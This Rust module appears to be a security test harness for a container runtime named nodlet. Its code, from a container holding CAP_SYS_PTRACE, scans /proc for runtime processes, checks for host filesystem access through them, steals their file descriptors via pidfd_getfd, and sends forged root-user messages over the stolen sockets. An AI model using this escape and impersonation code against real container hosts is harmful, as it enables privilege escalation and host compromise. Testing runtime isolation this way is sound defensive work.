//! The attacks that a container with CAP_SYS_PTRACE can make on processes of nodlet that come into its PID
//! namespace: access the host through them, take their descriptors, send messages in their name.

use std::collections::BTreeSet;
use std::fs;
use std::io;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::Path;

/// A file of the host that no container has.
pub(crate) const MARKER: &str = "/etc/hostname-of-the-host";

/// Examines every process until the file `stop` exists, then prints the findings, one per line.
pub(crate) fn hunt(stop: &Path) {
    let own = capabilities("self").expect("/proc is there");
    let mut found = BTreeSet::new();
    let mut seen = BTreeSet::new();
    println!("hunting");
    while !stop.exists() {
        for process in fs::read_dir("/proc").expect("/proc is there").flatten() {
            let name = process.file_name().to_string_lossy().into_owned();
            let Ok(pid) = name.parse::<i32>() else { continue };
            let process = process.path();
            let comm = fs::read_to_string(process.join("comm")).unwrap_or_default().trim().to_owned();
            if !comm.starts_with("nodlet:") && !comm.starts_with("youki:") {
                continue;
            }
            seen.insert(comm.clone());
            if capabilities(&name).is_some_and(|theirs| theirs & !own != 0) {
                found.insert(format!("CAPABILITIES of {comm}"));
            }
            let marker = process.join("root").join(MARKER.trim_start_matches('/'));
            if marker.exists() || process.join("cwd").join("run/nodlet").exists() {
                found.insert(format!("ROOT of {comm}"));
            }
            take_descriptors(pid, &process, &comm, &mut found);
        }
    }
    for line in found {
        println!("FOUND {line}");
    }
    println!("seen: {}", seen.into_iter().collect::<Vec<_>>().join(" "));
}

fn capabilities(pid: &str) -> Option<u64> {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find_map(|line| line.strip_prefix("CapPrm:"))?;
    u64::from_str_radix(line.trim(), 16).ok()
}

/// Takes the open descriptors of a process, and reports on its sockets that process 1 is the container's.
fn take_descriptors(pid: i32, process: &Path, comm: &str, found: &mut BTreeSet<String>) {
    let Ok(open) = fs::read_dir(process.join("fd")) else { return };
    for entry in open.flatten() {
        let Ok(leads) = fs::read_link(entry.path()) else { continue };
        let leads = leads.to_string_lossy().into_owned();
        let number: i32 = entry.file_name().to_string_lossy().parse().expect("a number");
        if number < 3 {
            continue;
        }
        if !leads.starts_with("socket:") && !leads.starts_with("/dev/pts") && !leads.starts_with("/dev/ptmx")
        {
            found.insert(format!("DESCRIPTOR of {comm}: {}", leads.split('[').next().unwrap_or_default()));
        }
        if let Ok(taken) = take(pid, number)
            && leads.starts_with("socket:")
        {
            // For even PIDs the first frame is sent alone, since the second one is rejected whatever the
            // result of the first.
            let frames = [r#"{"Created":{"pid":1}}"#, r#"{"User":{"uid":0,"gid":0,"groups":[],"home":"/"}}"#];
            for frame in &frames[..1 + (pid % 2) as usize] {
                // SAFETY: the bytes outlive the call.
                unsafe {
                    libc::send(taken.as_raw_fd(), frame.as_ptr().cast(), frame.len(), libc::MSG_DONTWAIT)
                };
            }
            println!("forged");
        }
    }
}

/// `pidfd_getfd(2)`.
fn take(pid: i32, number: i32) -> io::Result<OwnedFd> {
    // SAFETY: no pointers; each call returns a new descriptor that nobody else owns.
    unsafe {
        let pidfd = libc::syscall(libc::SYS_pidfd_open, pid, 0);
        if pidfd < 0 {
            return Err(io::Error::last_os_error());
        }
        let pidfd = OwnedFd::from_raw_fd(pidfd as i32);
        let taken = libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), number, 0);
        if taken < 0 { Err(io::Error::last_os_error()) } else { Ok(OwnedFd::from_raw_fd(taken as i32)) }
    }
}
